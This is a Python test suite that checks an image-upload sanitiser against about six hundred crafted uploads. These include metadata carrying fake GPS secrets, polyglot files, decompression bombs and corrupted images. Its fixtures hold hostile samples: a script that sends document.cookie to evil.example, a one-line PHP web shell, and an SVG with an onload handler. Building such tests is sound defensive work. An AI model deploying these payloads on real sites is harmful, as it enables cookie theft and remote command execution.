"""Six hundred uploads that mean harm or tell too much: no byte but pixels gets through."""

import gzip
import io
import random
import struct
import zipfile
import zlib
from collections import Counter
from collections.abc import Iterator

import pytest
from PIL import Image, ImageCms, ImageDraw, PngImagePlugin

from core import images, pdf

assert pdf  # the web process has it too, and WeasyPrint makes Pillow careless

SECRET = b"SECRET-43.6591N-Ana"
HTML = b"<!doctype html><script>fetch('//evil.example?'+document.cookie)</script>"
SVG = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'><script>1</script></svg>"
KINDS = ("JPEG", "PNG", "WEBP", "AVIF", "GIF")
Upload = tuple[str, bytes]


def picture(mode: str = "RGB", size: tuple[int, int] = (24, 16)) -> Image.Image:
    drawn = Image.new("RGB", size, (30, 60, 120))
    ImageDraw.Draw(drawn).ellipse((2, 2, 14, 14), fill=(240, 200, 40))
    return drawn.convert(mode)


def saved(image: Image.Image, kind: str, **options: object) -> bytes:
    out = io.BytesIO()
    image.save(out, kind, **options)
    return out.getvalue()


def exif() -> Image.Exif:
    made = Image.Exif()
    made[0x010F] = made[0x8298] = made[0x9286] = SECRET.decode()
    made.get_ifd(0x8825).update({1: "N", 2: (43.0, 39.0, 36.0), 29: SECRET.decode()})
    return made


def xmp() -> bytes:
    return b"<x:xmpmeta xmlns:x='adobe:ns:meta/'>" + SECRET + b"</x:xmpmeta>"


def profile() -> bytes:
    """A colour profile whose copyright field tells of somebody."""
    data = bytearray(ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes())
    return bytes(data) + SECRET


def segment(marker: int, body: bytes) -> bytes:
    """Put behind a JPEG's first two bytes."""
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


def telling() -> Iterator[Upload]:
    """Honest pictures that say where, when, by whom and with what."""
    jpeg, png = saved(picture(), "JPEG"), saved(picture(), "PNG")
    for kind in ("JPEG", "PNG", "WEBP", "AVIF"):
        yield f"{kind} exif", saved(picture(), kind, exif=exif())
        yield f"{kind} icc", saved(picture(), kind, icc_profile=profile())
        if kind != "PNG":
            yield f"{kind} xmp", saved(picture(), kind, xmp=xmp())
    yield "JPEG comment", saved(picture(), "JPEG", comment=SECRET)
    yield "GIF comment", saved(picture("P"), "GIF", comment=SECRET)
    for marker, name in ((0xED, b"Photoshop 3.0\x00"), (0xEC, b"Ducky"), (0xE2, b"MPF\x00")):
        yield f"JPEG {name!r}", jpeg[:2] + segment(marker, name + SECRET) + jpeg[2:]
    yield "JPEG thumbnail", jpeg[:2] + segment(0xE0, b"JFXX\x00\x10" + SECRET) + jpeg[2:]
    for name in (b"tEXt", b"iTXt", b"zTXt", b"eXIf", b"tIME", b"prVt", b"caBX"):
        body = {
            b"iTXt": b"Author\x00\x00\x00\x00\x00" + SECRET,
            b"zTXt": b"Author\x00\x00" + zlib.compress(SECRET),
            b"tIME": b"\x07\xe9\x01\x02\x03\x04\x05",
        }.get(name, b"Author\x00" + SECRET)
        yield f"PNG {name.decode()}", png[:33] + chunk(name, body) + png[33:]
    gif = saved(picture("P"), "GIF")
    body = b"!\xff\x0bXMP DataXMP" + bytes([len(SECRET)]) + SECRET + b"\x00"
    yield "GIF xmp", gif[:-1] + body + b";"


def behind() -> Iterator[Upload]:
    """What a polyglot carries behind the picture, or a clumsy program leaves there."""
    archive = io.BytesIO()
    with zipfile.ZipFile(archive, "w") as file:
        file.writestr("evil.php", SECRET)
    yield "nothing", b""
    yield "zip", archive.getvalue()
    yield "html", HTML + SECRET
    yield "php", b"<?php system($_GET['c']); /*" + SECRET
    yield "program", b"MZ\x90\x00" + SECRET
    yield "pdf", b"%PDF-1.7\n" + SECRET
    yield "another picture", saved(picture(), "JPEG", exif=exif())
    yield "svg", SVG + SECRET
    yield "zeros", b"\x00" * 500


def shapes() -> Iterator[Upload]:
    """All ways a picture can be stored that phones, cameras and programs know."""
    for kind, modes in {
        "JPEG": ("L", "RGB", "CMYK"),
        "PNG": ("1", "L", "LA", "P", "RGB", "RGBA", "I;16"),
        "WEBP": ("RGB", "RGBA"),
        "AVIF": ("RGB", "RGBA"),
        "GIF": ("L", "P"),
    }.items():
        for mode in modes:
            for size in ((1, 1), (24, 16), (3, 400)):
                plain = picture("I").convert("I;16") if mode == "I;16" else picture(mode)
                yield f"{kind} {mode} {size}", saved(plain.resize(size), kind)
    for kind in ("GIF", "PNG", "WEBP"):
        frames = [picture(), Image.new("RGB", (24, 16), (1, 2, 3))]
        moving = saved(frames[0], kind, save_all=True, append_images=frames[1:], duration=80)
        yield f"moving {kind}", moving
    yield "progressive", saved(picture(), "JPEG", progressive=True)
    odd = PngImagePlugin.PngInfo()
    odd.add_text("a" * 70, SECRET.decode() * 100, zip=True)
    yield "long note", saved(picture(), "PNG", pnginfo=odd)
    for turn in range(9):
        turned = Image.Exif()
        turned[0x0112] = turn
        yield f"turned {turn}", saved(picture(), "JPEG", exif=turned)


def no_pictures() -> Iterator[Upload]:
    """Other files, under whatever name; and picture formats that are programs or rare."""
    base = picture()
    others = {
        "empty": b"", "space": b" \n", "svg": SVG, "svgz": gzip.compress(SVG), "html": HTML,
        "svg with a mark": b"\xef\xbb\xbf" + SVG, "svg in UTF-16": SVG.decode().encode("utf-16"),
        "xml": b"<?xml version='1.0'?>" + SVG, "eps": b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0",
        "pdf": b"%PDF-1.7\n1 0 obj<<>>endobj", "elf": b"\x7fELF\x02\x01", "exe": b"MZ\x90\x00",
        "zip": b"PK\x03\x04" + bytes(40), "gzip": gzip.compress(b"x"), "php": b"<?php 1;",
        "heic": b"\x00\x00\x00\x18ftypheic\x00\x00\x00\x00mif1heic" + bytes(60),
        "mp4": b"\x00\x00\x00\x18ftypisom\x00\x00\x02\x00isomiso2" + bytes(60),
        "avif in name": b"\x00\x00\x00\x1cftypavif\x00\x00\x00\x00avifmif1miaf" + bytes(60),
        "psd": b"8BPS\x00\x01" + bytes(60), "jp2": b"\x00\x00\x00\x0cjP  \r\n\x87\n" + bytes(60),
        "wave": b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(60), "ole": b"\xd0\xcf\x11\xe0" + bytes(60),
        "gif in name": b"GIF89a=1;" + HTML, "jpeg in name": b"\xff\xd8\xff\xe0" + HTML,
        "png in name": b"\x89PNG\r\n\x1a\n" + HTML,
        "webp in name": b"RIFF\xff\x00\x00\x00WEBP" + HTML,
        "only a header": saved(base, "PNG")[:33], "jpeg ends at once": b"\xff\xd8\xff\xd9",
        **{kind: saved(base, kind) for kind in ("TIFF", "BMP", "ICO", "TGA", "PPM", "PCX", "DIB")},
        "eps picture": saved(base, "EPS"),
    }  # fmt: skip
    for name, data in others.items():
        yield name, data
        if not name.startswith(("empty", "jpeg ends")):  # those are pictures, if odd ones
            yield f"{name}, then a picture", data + saved(base, "JPEG")
        yield f"{name} with zeros", data + b"\x00" * 64


def bombs() -> Iterator[Upload]:
    """Small files that unpack to very much, or say so."""
    png = saved(picture(), "PNG")
    for width, height in ((30_000, 30_000), (2**31 - 1, 1), (2**31 - 1, 2**31 - 1), (40_001, 1000)):
        header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
        rows = chunk(b"IDAT", zlib.compress(bytes(1000)))
        yield f"PNG {width}", png[:8] + chunk(b"IHDR", header) + rows + chunk(b"IEND", b"")
    gif = saved(picture("P"), "GIF")
    yield "GIF", gif[:6] + struct.pack("<HH", 65_535, 65_535) + gif[10:]
    jpeg = bytearray(saved(picture(), "JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    yield "JPEG", bytes(jpeg)
    webp = saved(picture(), "WEBP", lossless=True)
    yield "WebP", webp[:21] + b"\xff\xff\xff\x0f" + webp[25:]
    bomb = chunk(b"zTXt", b"a\x00\x00" + zlib.compress(bytes(80_000_000), 9))
    yield "note", png[:33] + bomb + png[33:]
    yield "colours", png[:33] + chunk(b"iCCP", b"a\x00\x00" + zlib.compress(bytes(5_000_000)))


def damaged() -> Iterator[Upload]:
    """Cut off anywhere, and with bytes turned over anywhere."""
    chance = random.Random(18)  # the same each time
    for kind in KINDS:
        whole = saved(picture(), kind, **({} if kind == "GIF" else {"exif": exif()}))
        for part in range(1, 20):
            yield f"{kind} {part}/20", whole[: len(whole) * part // 20]
        for turn in range(20):
            broken = bytearray(whole)
            for _ in range(1 + turn // 4):
                broken[chance.randrange(len(broken))] ^= 1 << chance.randrange(8)
            yield f"{kind} broken {turn}", bytes(broken)


def pieces(drawn: images.Picture) -> list[str]:
    """The names of a file's parts, from its first byte to its last."""
    data, names = drawn.data, []
    if drawn.extension == "png":
        at = 8
        while at < len(data):
            length = struct.unpack(">I", data[at : at + 4])[0]
            names.append(data[at + 4 : at + 8].decode("ascii"))
            at += length + 12
        return names
    at = 2
    while data[at + 1] != 0xD9:
        names.append(f"{data[at + 1]:02X}")
        at += 2 + struct.unpack(">H", data[at + 2 : at + 4])[0]
        if names[-1] == "DA":  # then coded pixels, up to the next marker
            while data[at] != 0xFF or data[at + 1] == 0x00 or 0xD0 <= data[at + 1] <= 0xD7:
                at += 1
    assert at + 2 == len(data), "something stands behind the picture"
    return names


# Sizes, colours, tables and pixels; E0 is JFIF's own header of 16 bytes.
ALLOWED = {"IHDR", "IDAT", "IEND"} | {"E0", "DB", "C0", "C2", "C4", "DA", "DD"}


def judge(uploads: Iterator[Upload]) -> Counter[str]:
    """Redraws each; what comes through is pixels alone."""
    seen: Counter[str] = Counter()
    for name, data in uploads:
        try:
            drawn = images.redraw(data)
        except images.NotAPicture:
            seen["refused"] += 1
            continue
        seen["drawn"] += 1
        assert not {p for p in pieces(drawn) if p not in ALLOWED}, name
        for secret in (
            SECRET,
            SECRET.decode().encode("utf-16-le"),
            b"<script",
            b"<?php",
            b"PK\x03",
        ):
            assert secret not in drawn.data, name
        with Image.open(io.BytesIO(drawn.data)) as opened:
            opened.load()
            assert not opened.getexif(), name
            assert set(opened.info) <= {
                *("jfif", "jfif_version", "jfif_unit", "jfif_density"),
                *("progressive", "progression"),
            }, name
    return seen


def test_a_telling_picture_with_anything_behind_it_is_drawn_and_tells_nothing() -> None:
    uploads = [
        (f"{name} + {what}", data + tail) for name, data in telling() for what, tail in behind()
    ]
    told = sum(SECRET in data for _, data in uploads)
    assert told > 200  # the others hold it compressed, or as figures
    assert judge(iter(uploads)) == {"drawn": len(uploads)}


def test_every_shape_of_a_picture_is_taken() -> None:
    uploads = list(shapes())
    assert judge(iter(uploads)) == {"drawn": len(uploads)}


def test_what_is_no_picture_is_refused_whatever_it_calls_itself() -> None:
    uploads = list(no_pictures())
    assert judge(iter(uploads)) == {"refused": len(uploads)}


def test_a_bomb_is_refused_before_it_unpacks() -> None:
    uploads = list(bombs())
    assert judge(iter(uploads)) == {"refused": len(uploads)}


def test_a_damaged_picture_is_refused_or_drawn_and_never_a_fault() -> None:
    seen = judge(damaged())
    assert seen["refused"] > 90


def test_all_together_they_are_more_than_five_hundred() -> None:
    others = sum(1 for family in (shapes, no_pictures, bombs, damaged) for _ in family())
    assert sum(1 for _ in telling()) * sum(1 for _ in behind()) + others >= 500


@pytest.mark.parametrize("keep", ["exif", "icc_profile", "xmp"])
def test_a_redraw_that_kept_something_would_be_found(keep: str) -> None:
    kept = {"exif": exif(), "icc_profile": profile(), "xmp": xmp()}[keep]
    planted = images.Picture(saved(picture(), "JPEG", **{keep: kept}), "jpg", "image/jpeg")
    assert {p for p in pieces(planted) if p not in ALLOWED}
